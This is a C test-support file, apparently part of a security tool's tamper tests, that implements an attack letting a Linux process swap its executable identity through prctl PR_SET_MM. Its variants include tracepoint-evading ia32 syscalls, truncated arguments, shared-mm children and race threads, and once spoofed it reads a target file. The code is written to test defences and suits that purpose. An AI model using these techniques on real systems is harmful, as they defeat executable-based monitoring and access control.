/* The executable-identity attack of the s27 review (threat model row "a program
 * named as an exe: subject changes its own executable identity"), for the tamper
 * tests of both tiers.  Built twice from this file by tests/support/mmswap.py:
 * libmmswap.so (the attack) and mmswap (MMSWAP_MAIN: a main that calls it).
 *
 *   mmswap MODE FAKE [TARGET]
 *     MODE exe-file: prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd of FAKE)  (root)
 *          map:      unshare(CLONE_NEWUSER), then prctl(PR_SET_MM, PR_SET_MM_MAP)
 *                    with exe_fd = FAKE (no privilege needed)
 *          map32:    the same prctl by the ia32 entry (int $0x80 from this 64-bit
 *                    program, x86-64 only), which no syscall tracepoint sees
 *          maphi, exehi: map and exe-file with upper bits set in arg2, which the
 *                    kernel drops (prctl_set_mm takes an int)
 *          vmshare:  map, made by a child that shares our mm (clone(CLONE_VM)
 *                    without CLONE_THREAD): the identity is the mm's, so killing
 *                    the child leaves us running as FAKE
 *          threads:  map, with two more threads: one keeps the mm's lock busy
 *                    (mprotect in a loop), which holds the caller inside the
 *                    prctl after the change; one watches /proc/self/exe and says
 *                    "watcher saw FAKE" the moment the identity is FAKE
 *          keep:     PR_SET_MM_MAP with exe_fd -1, as liblxc's setproctitle does
 *                    (no user namespace, nothing unmapped): a legitimate call that
 *                    changes no identity
 *
 * The kernel refuses the change while the old image is mapped (EBUSY), so every
 * mapping of our own executable is unmapped first; the attack runs from the
 * library and never returns into main.  It prints one line per step:
 *   unmapped=N / prctl=R errno=E / exe=<readlink /proc/self/exe> / read=<first line>
 * and exits 0 when the identity changed (/proc/self/exe names FAKE, which must be
 * given as the path readlink shows), 3 when it did not, 4 on a setup failure, 5
 * when TARGET could not be opened. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/prctl.h>

void mmswap(const char *mode, const char *fake, const char *target);

#ifdef MMSWAP_MAIN
int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: %s exe-file|map FAKE [TARGET]\n", argv[0]);
		return 2;
	}
	mmswap(argv[1], argv[2], argc > 3 ? argv[3] : NULL);
	return 4;
}
#else
static void say(const char *s)
{
	if (write(1, s, strlen(s)) < 0)
		_exit(4);
}

static void fail(const char *what)
{
	char b[256];

	snprintf(b, sizeof b, "setup: %s: errno=%d\n", what, errno);
	say(b);
	_exit(4);
}

/* the fields /proc/self/stat gives (1-based), after the comm's ')' */
static void stat_fields(unsigned long *v, int n)
{
	char st[4096], *p, *tok, *save = NULL;
	int fd = open("/proc/self/stat", O_RDONLY), field = 3;
	ssize_t l;

	if (fd < 0 || (l = read(fd, st, sizeof st - 1)) <= 0)
		fail("/proc/self/stat");
	close(fd);
	st[l] = 0;
	p = strrchr(st, ')');
	if (!p)
		fail("/proc/self/stat format");
	for (tok = strtok_r(p + 2, " ", &save); tok; tok = strtok_r(NULL, " ", &save), field++)
		if (field < n)
			v[field] = strtoul(tok, NULL, 10);
}

static int unmap_image(void)
{
	char exe[512], line[1024];
	unsigned long lo[32], hi[32];
	ssize_t l = readlink("/proc/self/exe", exe, sizeof exe - 1);
	FILE *f;
	int k = 0, i;

	if (l <= 0)
		fail("readlink /proc/self/exe");
	exe[l] = 0;
	f = fopen("/proc/self/maps", "r");
	if (!f)
		fail("/proc/self/maps");
	while (fgets(line, sizeof line, f) && k < 32) {
		char *path = strchr(line, '/');

		if (path && strncmp(path, exe, strlen(exe)) == 0 && path[strlen(exe)] == '\n')
			if (sscanf(line, "%lx-%lx", &lo[k], &hi[k]) == 2)
				k++;
	}
	fclose(f);
	for (i = 0; i < k; i++)
		if (munmap((void *)lo[i], hi[i] - lo[i]))
			fail("munmap");
	return k;
}

/* prctl by the ia32 entry: syscall 172, arguments in ebx, ecx, edx, esi, edi
 * (arg5 must be 0; a pointer must lie below 4 GiB); -errno as the kernel returns
 * it */
static long prctl32(long option, long arg2, long arg3, long arg4)
{
#if defined(__x86_64__)
	long r;

	__asm__ volatile("int $0x80" : "=a"(r)
			 : "a"(172L), "b"(option), "c"(arg2), "d"(arg3), "S"(arg4), "D"(0L)
			 : "r8", "r9", "r10", "r11", "memory");
	return r;
#else
	(void)option, (void)arg2, (void)arg3, (void)arg4;
	return -ENOSYS;
#endif
}

static struct prctl_mm_map *shared_map;
static const char *watched_fake;

static void *lock_hog(void *unused)
{
	char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	(void)unused;
	if (p == MAP_FAILED)
		return NULL;
	for (;;) {
		mprotect(p, 1 << 20, PROT_READ);
		mprotect(p, 1 << 20, PROT_READ | PROT_WRITE);
	}
	return NULL;
}

static void *watcher(void *unused)
{
	char b[512];
	ssize_t l;

	(void)unused;
	for (;;) {
		l = readlink("/proc/self/exe", b, sizeof b - 1);
		if (l > 0 && (size_t)l == strlen(watched_fake) && memcmp(b, watched_fake, l) == 0) {
			say("watcher saw FAKE\n");
			return NULL;
		}
	}
	return NULL;
}

static int vm_child(void *unused)
{
	long r = syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (unsigned long)shared_map,
			 sizeof(*shared_map), 0UL);

	(void)unused;
	_exit(r ? errno : 0);
}

/* the prctl by a clone(CLONE_VM) child: 0 when it made the change, else -1 with
 * errno (0 when the child was killed) */
static int prctl_by_vm_child(struct prctl_mm_map *mp)
{
	char *stack = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char buf[64];
	int pid, st;

	if (stack == MAP_FAILED)
		fail("mmap(stack)");
	shared_map = mp;
	pid = clone(vm_child, stack + 65536, CLONE_VM | SIGCHLD, NULL);
	if (pid < 0)
		fail("clone(CLONE_VM)");
	if (waitpid(pid, &st, 0) != pid)
		fail("waitpid");
	if (WIFSIGNALED(st)) {
		snprintf(buf, sizeof buf, "child killed by signal %d\n", WTERMSIG(st));
		say(buf);
		errno = 0;
		return -1;
	}
	errno = WEXITSTATUS(st);
	return errno ? -1 : 0;
}

void mmswap(const char *mode, const char *fake, const char *target)
{
	char buf[600];
	unsigned long v[64] = {0};
	struct prctl_mm_map *mp, m0 = {0};
	int xfd, r, n, ia32 = strcmp(mode, "map32") == 0;
	int hi = strcmp(mode, "maphi") == 0 || strcmp(mode, "exehi") == 0;
	int keep = strcmp(mode, "keep") == 0;
	int vmshare = strcmp(mode, "vmshare") == 0;
	int threads = strcmp(mode, "threads") == 0;
	int map = ia32 || keep || vmshare || threads || strcmp(mode, "map") == 0 ||
		  strcmp(mode, "maphi") == 0;
	ssize_t l;

	/* ia32: the structure below 4 GiB, where a 32-bit register can point */
	mp = ia32 ? mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0) : &m0;
	if (mp == MAP_FAILED)
		fail("mmap(MAP_32BIT)");
#define m (*mp)
	if (map) {
		if (!keep && unshare(CLONE_NEWUSER))
			fail("unshare(CLONE_NEWUSER)");
		stat_fields(v, 64);
		m.start_code = v[26];
		m.end_code = v[27];
		m.start_stack = v[28];
		m.start_data = v[45];
		m.end_data = v[46];
		m.start_brk = v[47];
		m.brk = (unsigned long)sbrk(0);
		m.arg_start = v[48];
		m.arg_end = v[49];
		m.env_start = v[50];
		m.env_end = v[51];
	} else if (strcmp(mode, "exe-file") != 0 && strcmp(mode, "exehi") != 0) {
		errno = EINVAL;
		fail("mode");
	}
	xfd = open(fake, O_RDONLY | O_CLOEXEC);
	if (xfd < 0)
		fail("open FAKE");
	m.exe_fd = keep ? (__u32)-1 : (__u32)xfd;
	if (threads) {   /* before the image goes: thread set-up reads its link map */
		pthread_t a, b;

		watched_fake = fake;
		if (pthread_create(&a, NULL, lock_hog, NULL) || pthread_create(&b, NULL, watcher, NULL))
			fail("pthread_create");
		usleep(100000);
	}
	n = keep ? 0 : unmap_image();
	snprintf(buf, sizeof buf, "unmapped=%d\n", n);
	say(buf);
	if (ia32) {
		long e = prctl32(PR_SET_MM, PR_SET_MM_MAP, (long)(unsigned long)mp,
				 sizeof(*mp));

		r = e < 0 ? -1 : 0;
		errno = e < 0 ? (int)-e : 0;
	} else if (vmshare)
		r = prctl_by_vm_child(mp);
	else if (map)
		r = (int)syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP | (hi ? 1UL << 32 : 0),
				 (unsigned long)&m, sizeof m, 0UL);
	else
		r = (int)syscall(SYS_prctl, PR_SET_MM,
				 PR_SET_MM_EXE_FILE | (hi ? 0xffffffff00000000UL : 0), xfd, 0UL, 0UL);
	snprintf(buf, sizeof buf, "prctl=%d errno=%d\n", r, r ? errno : 0);
	say(buf);
	l = readlink("/proc/self/exe", buf + 4, sizeof buf - 6);
	memcpy(buf, "exe=", 4);
	buf[4 + (l > 0 ? l : 0)] = '\n';
	buf[5 + (l > 0 ? l : 0)] = 0;
	say(buf);
	/* vmshare: the child's prctl failed or it was killed, but the change may
	 * have been made all the same: the identity is what counts */
	if (strncmp(buf + 4, fake, strlen(fake)) != 0 || buf[4 + strlen(fake)] != '\n')
		_exit(3);
	if (target) {
		int fd = open(target, O_RDONLY);

		if (fd < 0) {
			snprintf(buf, sizeof buf, "open: errno=%d\n", errno);
			say(buf);
			_exit(5);
		}
		l = read(fd, buf + 5, 64);
		memcpy(buf, "read=", 5);
		buf[5 + (l > 0 ? l : 0)] = '\n';
		buf[6 + (l > 0 ? l : 0)] = 0;
		say(buf);
	}
	_exit(0);
}
#endif
